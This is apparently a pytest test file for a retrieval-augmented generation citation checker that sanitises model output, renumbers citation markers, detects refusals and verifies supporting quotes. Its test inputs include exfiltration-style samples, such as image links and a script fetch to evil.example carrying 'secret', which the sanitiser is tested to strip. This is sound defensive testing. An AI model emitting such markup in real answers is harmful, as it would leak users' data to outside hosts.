"""Citation validation of model output: sanitising, renumbering, supporting quotes, support flags.

The checker runs on real embeddings (the packaged model) over a small document written here,
so every quote can be compared with the document text at its offsets.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from langchain_core.documents import Document

from rag.cite.checker import CitationChecker, claims
from rag.cite.markers import StreamCleaner, is_refusal, renumber, sanitize
from rag.results import ABSTAIN_TEXT
from rag.text.sentences import sentence_spans

DOC = (
    "The kappa bridge opened in 1931 in Bergen. It was designed by Astrid Lund, an engineer "
    "from Oslo. The bridge carries a railway and a road.\n\n"
    "In 1952 the city added a second deck for trams. The trams stopped running in 1971, "
    "and the deck became a cycle path.\n\n"
    "Visitors can read more at https://bergen.example/kappa in the city archive. "
    "The archive opens at nine every weekday."
)
SOURCE = "bridge.txt"


def passages() -> list[Document]:
    """Three passages, one per paragraph, with offsets as the retriever gives them."""
    docs = []
    for m in re.finditer(r"[^\n]+", DOC):
        docs.append(
            Document(
                page_content=m.group(),
                metadata={"source": SOURCE, "start": m.start(), "end": m.end(), "chunk_id": "c"},
            )
        )
    return docs


@pytest.fixture(scope="module")
def checker(embedder) -> CitationChecker:
    return CitationChecker(embedder, idf=lambda term: 1.0, doc_text=lambda source: DOC)


def assert_valid(checked) -> None:
    markers = sorted({int(n) for n in re.findall(r"\[(\d+)\]", checked.text)})
    assert markers == [c.n for c in checked.citations] == list(range(1, len(markers) + 1))
    for c in checked.citations:
        assert DOC[c.start : c.end] == c.quote
        assert c.quote in c.passage


# -- sanitising -----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("raw", "gone", "kept"),
    [
        ("Opened in 1931 ![pixel](http://evil.example/p.png?q=secret) [1]", "evil", "1931 [1]"),
        ("Opened in 1931 ![pixel][ref] [1]", "pixel", "1931 [1]"),
        ("Opened <img src='http://evil.example/x'> in 1931 [1]", "img", "Opened in 1931 [1]"),
        ("In 1931<script>fetch('http://evil.example')</script> [1]", "fetch", "In 1931 [1]"),
        ("In 1931 <iframe src=x></iframe>[1]", "iframe", "In 1931 [1]"),
        ("See [the page](https://evil.example/x) for 1931 [1]", "evil", "See the page for"),
        ("Opened in 1931, see https://evil.example/a?b=c [1]", "evil", "Opened in 1931, see"),
        ("Opened in 1931 <!-- hidden http://evil.example --> [1]", "hidden", "1931 [1]"),
        ("Opened in 1931 [1] <img src=http://evil.example/x", "evil", "Opened in 1931 [1]"),
        ("The [n] bridge opened in 1931 [m] [1]", "[n]", "The bridge opened in 1931 [1]"),
    ],
)
def test_unsafe_markup_and_outside_links_are_stripped(raw, gone, kept):
    clean = sanitize(raw)
    assert gone not in clean and "<" not in clean and "](" not in clean
    assert kept in clean


def test_a_url_the_passages_quote_may_stay():
    raw = "See https://bergen.example/kappa [3], not https://other.example/x."
    clean = sanitize(raw, allowed_urls=["https://bergen.example/kappa"])
    assert "https://bergen.example/kappa" in clean and "other.example" not in clean


# -- markers --------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("raw", "passages", "text", "order", "dropped"),
    [
        ("Kabul[1] fell.", 5, "Kabul [1] fell.", [1], 0),
        ("Kabul [7] fell [2].", 5, "Kabul fell [1].", [2], 1),
        ("A [3]. B [1]. C [3].", 5, "A [1]. B [2]. C [1].", [3, 1], 0),
        ("A [1, 3].", 5, "A [1] [2].", [1, 3], 0),
        ("A [2-3].", 5, "A [1] [2].", [2, 3], 0),
        ("A [^2] and [passage 4].", 5, "A [1] and [2].", [2, 4], 0),
        ("A [1][1] [1].", 5, "A [1].", [1], 0),
        ("A [0] [6] [99].", 5, "A.", [], 3),
        ("A [1]B.", 5, "A [1] B.", [1], 0),
        ("In [2001] it fell [1].", 5, "In [2001] it fell [1].", [1], 0),
    ],
)
def test_markers_are_validated_and_renumbered(raw, passages, text, order, dropped):
    result = renumber(raw, passages)
    assert (result.text, result.order, result.dropped) == (text, order, dropped)


def test_markers_opening_a_sentence_belong_to_the_one_before():
    found = claims("It opened in 1931. [1] Astrid Lund designed it [2].")
    assert [c.markers for c in found] == [(1,), (2,)]
    assert found[0].text == "It opened in 1931."


@given(st.text(alphabet=st.sampled_from("ab [1]2[3x7].<>!()\n"), max_size=60))
@example("[1111]")
@settings(max_examples=300, deadline=None)
def test_renumbered_markers_are_always_dense_and_in_range(raw):
    result = renumber(sanitize(raw), 3)
    # a marker has one to three digits; "[1111]", like "[2001]", is the text's own
    numbers = [int(n) for n in re.findall(r"\[(\d{1,3})\]", result.text)]
    assert all(1 <= n <= len(result.order) for n in numbers)
    assert sorted(set(numbers)) == list(range(1, len(result.order) + 1))
    assert all(1 <= p <= 3 for p in result.order)


# -- refusals -------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "cited", "refusal"),
    [
        (ABSTAIN_TEXT, False, True),
        (f"Sorry. {ABSTAIN_TEXT}", False, True),
        (ABSTAIN_TEXT.upper().rstrip("."), True, True),
        ("The passages do not mention who won.", False, True),
        ("The passages do not mention who won [1].", True, False),
        ("The bridge opened in 1931 [1].", True, False),
    ],
)
def test_refusals_are_recognised(text, cited, refusal):
    assert is_refusal(text, cited=cited) is refusal


# -- the checker ---------------------------------------------------------------------------------
def test_a_cited_answer_gets_the_supporting_sentence_as_quote(checker):
    checked = checker.check("The bridge opened in 1931[1]. Trams stopped in 1971 [2].", passages())
    assert checked.supported and not checked.abstained and not checked.attached
    assert checked.text == "The bridge opened in 1931 [1]. Trams stopped in 1971 [2]."
    assert checked.citations[0].quote == "The kappa bridge opened in 1931 in Bergen."
    assert checked.citations[1].quote.startswith("The trams stopped running in 1971")
    assert_valid(checked)


def test_the_quote_is_the_sentence_matching_the_claim_not_the_first(checker):
    checked = checker.check("Astrid Lund designed it [1].", passages())
    assert checked.citations[0].quote.startswith("It was designed by Astrid Lund")
    assert_valid(checked)


def test_an_out_of_range_marker_is_dropped_and_the_rest_renumbered(checker):
    checked = checker.check("A second deck came in 1952 [7] [2].", passages())
    assert checked.dropped == 1
    assert checked.text == "A second deck came in 1952 [1]."
    assert checked.citations[0].quote == "In 1952 the city added a second deck for trams."
    assert checked.supported
    assert_valid(checked)


def test_without_markers_citations_are_attached_by_similarity(checker):
    checked = checker.check(
        "The bridge was designed by Astrid Lund. The trams stopped running in 1971.", passages()
    )
    assert checked.attached and checked.supported
    assert checked.text == (
        "The bridge was designed by Astrid Lund [1]. The trams stopped running in 1971 [2]."
    )
    assert "Astrid Lund" in checked.citations[0].quote
    assert "1971" in checked.citations[1].quote
    assert_valid(checked)


def test_an_answer_nothing_supports_is_flagged_and_gets_no_citations(checker):
    checked = checker.check("The Eiffel Tower is in Paris.", passages())
    assert not checked.supported and checked.citations == []
    assert checked.text == "The Eiffel Tower is in Paris."


def test_a_cited_claim_with_a_wrong_number_is_flagged(checker):
    checked = checker.check("The bridge opened in 1935 in Bergen [1].", passages())
    assert not checked.supported
    assert checked.citations  # the model's citation is kept, and the claim is flagged
    assert_valid(checked)


def test_one_unsupported_sentence_flags_the_whole_answer(checker):
    checked = checker.check(
        "The bridge opened in 1931 [1]. It was painted gold by Napoleon [1].", passages()
    )
    assert not checked.supported
    assert checked.support[0] >= checker.min_support > checked.support[1]


def test_the_refusal_sentence_abstains_with_no_citations(checker):
    for raw in (
        ABSTAIN_TEXT,
        f"{ABSTAIN_TEXT} [2]",
        "<p>The documents do not answer this question.</p>",
    ):
        checked = checker.check(raw, passages())
        assert checked.abstained and checked.text == ABSTAIN_TEXT and checked.citations == []


def test_output_that_is_only_markup_abstains(checker):
    checked = checker.check("![x](http://evil.example/x.png) [9]", passages())
    assert checked.abstained and checked.dropped == 1


def test_messy_output_all_at_once(checker):
    raw = (
        "Kabul[1] - no: the kappa bridge opened in 1931[1]![img](http://evil.example/a.png) "
        "<b>and</b> the trams stopped in 1971 [7][2]. <script>alert(1)</script>"
    )
    checked = checker.check(raw, passages())
    assert "evil" not in checked.text and "<" not in checked.text and "[7]" not in checked.text
    assert checked.dropped == 1
    assert_valid(checked)


# -- streaming ------------------------------------------------------------------------------------
@pytest.mark.parametrize("size", [1, 3, 7, 50])
def test_streamed_deltas_are_clean_and_add_up_to_the_cleaned_text(size):
    raw = (
        "The bridge opened in 1931[1]. ![x](http://evil.example/?q=1) It has <b>two</b> decks "
        "[2][9], see [here](http://evil.example). <script>steal()</script>Done [3]."
    )
    cleaner = StreamCleaner(passages=3)
    deltas = [cleaner.feed(raw[i : i + size]) for i in range(0, len(raw), size)]
    deltas.append(cleaner.finish())
    streamed = "".join(deltas)
    assert streamed == cleaner.clean(raw)
    for delta in deltas:
        assert "evil" not in delta and "<" not in delta and "steal" not in delta


def test_sentence_spans_used_for_quotes_are_exact():
    for s, e in sentence_spans(DOC):
        assert DOC[s:e] == DOC[s:e].strip()
